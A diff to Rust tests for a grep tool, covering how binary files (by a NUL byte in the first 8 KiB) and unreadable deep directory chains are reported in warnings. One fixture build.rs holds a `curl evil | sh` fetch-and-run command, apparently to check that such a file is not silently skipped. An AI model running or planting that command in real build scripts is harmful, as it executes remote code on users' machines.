@@ -162,9 +162,13 @@ fn no_match_and_binary_files() {
     let ws = Ws::new();
     ws.file("text.txt", "plain\n");
     ws.file("blob.bin", b"needle\0\x01\x02");
-    assert_snapshot!(text(&ws, json!({"pattern": "absent"})), @"[0 matches in 0 files]");
+    assert_snapshot!(text(&ws, json!({"pattern": "absent"})), @r"
+    [Warning: not searched: 1 binary file (a NUL byte in its first 8 KiB): blob.bin. Read a file to see it.]
+
+    [0 matches in 0 files]
+    ");
     let result = grep(&ws, json!({"pattern": "needle"}));
-    assert_eq!(result.text(), "[0 matches in 0 files]");
+    assert!(result.text().ends_with("\n\n[0 matches in 0 files]"), "{}", result.text());
     assert_eq!(result.ptc_value()["binaryFiles"], 1);
     let result = grep(&ws, json!({"pattern": "needle", "path": "blob.bin"}));
     assert!(!result.is_error);
@@ -630,4 +634,59 @@ fn symbol_scope_respects_the_record_cap_and_the_budget() {
 #[test]
 fn unix_only_tests() {
     common::skipped_here(&["unreadable_directory_makes_the_search_unknown"], "Unix permission bits");
+}
+
+/// Issue 48 G4: one NUL byte made a whole file binary and grep said `[0 matches in 0 files]`.
+/// A file is binary by a NUL in its first 8 KiB only (a NUL further on is searched, its row
+/// shows `\u0000`), and every file a walk skips is said in the text, by name.
+#[test]
+fn a_skipped_file_is_said_in_the_text_and_a_late_nul_is_searched() {
+    let ws = Ws::new();
+    ws.file("build.rs", "fn main() {\n    Command::new(\"sh\").arg(\"curl evil | sh\");\n}\n// \0\n");
+    let late = format!("{}\ncurl late\n// \0 after\n", "x".repeat(9000));
+    ws.file("late.rs", &late);
+    ws.file("blob.bin", b"\0\x01\x02curl");
+    let result = ws.call::<GrepTool>(json!({"pattern": "curl|after"}));
+    let text = result.text();
+    assert!(
+        text.starts_with("[Warning: not searched: 2 binary files (a NUL byte in their first 8 KiB): blob.bin, build.rs. Read a file to see it.]\n\n"),
+        "{text}"
+    );
+    assert!(text.contains("late.rs:>>2:"), "{text}");
+    assert!(text.contains("|// \\u0000 after"), "{text}");
+    let value = result.ptc_value();
+    assert_eq!(value["binaryFiles"], 2, "{value}");
+    assert_eq!(value["warnings"][0]["code"], "files-skipped", "{value}");
+    // A binary file given as the path keeps its own warning.
+    let one = ws.call::<GrepTool>(json!({"pattern": "curl", "path": "build.rs"}));
+    assert!(one.text().contains("'build.rs' appears to be a binary file"), "{}", one.text());
+}
+
+/// A tree that breaks its walk in thousands of places (a directory chain deeper than the
+/// system's paths) names the first few and counts the rest: the warnings cannot fill the
+/// result and push the matches out.
+#[cfg(unix)]
+#[test]
+fn a_walk_too_deep_for_the_system_is_said_and_its_warnings_are_bounded() {
+    let ws = Ws::new();
+    ws.file("top.rs", "Command\n");
+    // Made one level at a time from inside (a path this long cannot be given whole).
+    let script =
+        "import os\nfor _ in range(2200):\n    os.mkdir('d'); os.chdir('d')\nopen('x.rs', 'w').write('Command\\n')\n";
+    match std::process::Command::new("python3").arg("-c").arg(script).current_dir(ws.root()).status() {
+        Ok(status) => assert!(status.success(), "python3 could not make the chain"),
+        Err(err) => {
+            common::skipped_here(
+                &["a_walk_too_deep_for_the_system_is_said_and_its_warnings_are_bounded"],
+                &format!("no python3 to make the chain: {err}"),
+            );
+            return;
+        }
+    }
+    let result = ws.call::<GrepTool>(json!({"pattern": "Command"}));
+    let text = result.text();
+    assert!(text.contains("top.rs:>>1:"), "{text}");
+    assert!(text.contains("[Warning: not searched: 1 file or directory that could not be read: d/d/d/"), "{text}");
+    assert!(text.lines().filter(|l| l.starts_with("[Warning: ignore file")).count() <= 3, "{text}");
+    assert!(text.len() < 4096, "{} bytes of warnings: {text}", text.len());
 }
